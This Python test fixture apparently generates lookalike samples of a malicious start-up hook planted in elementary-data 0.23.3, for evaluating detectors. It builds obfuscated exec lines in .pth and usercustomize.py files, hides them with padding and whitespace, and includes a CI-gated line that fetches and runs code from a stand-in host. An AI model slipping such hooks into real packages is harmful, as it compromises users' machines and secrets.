"""elementary-data 0.23.3, 24 April 2026: nothing but a start-up hook of 245 kB."""

from __future__ import annotations

from evals.lookalikes.deeds import COLLECT, padded
from evals.lookalikes.shape import Edit, Lookalike, added
from evals.lookalikes.wraps import b64, b85, packed

HOOK = "elementary.pth"
_INNER = f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{packed(COLLECT)}')))\n"
LONG = f"import base64; exec(base64.b64decode('{b64(padded(_INNER, 183_000))}'))\n"


def _one(name: str, *edits: Edit, shape: bool = False, first: str = HOOK) -> Lookalike:
    return Lookalike(
        incident="elementary-data", name=name, project="elementary-data", base="0.23.2",
        version="0.23.3", edits=edits, shape=shape, first=first,
    )  # fmt: skip


_GETATTR = (
    "import sys; b = __import__('base64'); getattr(__import__('builtins'), chr(101) + 'xec')"
    f"(getattr(b, 'b85' + 'decode')('{b85(COLLECT)}'))\n"
)
_FETCHED = (
    "import os, urllib.request as u; exec(u.urlopen('https://updates.example/hook').read()) "
    "if os.getenv('CI') else None\n"
)
_PATHS = "# paths of the package\n./elementary\n\n" * 400

LOOKALIKES = (
    _one("hook", added(HOOK, LONG), shape=True),
    _one("hook below blank lines", added(HOOK, _PATHS + "import sys;" + " " * 300 + LONG)),
    _one("names hidden, b85", added("edr-nspkg.pth", _GETATTR), first="edr-nspkg.pth"),
    _one("code fetched", added(HOOK, _FETCHED)),
    _one(
        "usercustomize and data",
        added(
            "usercustomize.py",
            "import base64, pathlib\n"
            "exec(base64.b64decode(pathlib.Path(__file__).with_name('elementary.dat').read_bytes()))\n",
        ),
        added("elementary.dat", b64(padded(COLLECT, 20_000))),
        first="usercustomize.py",
    ),
)
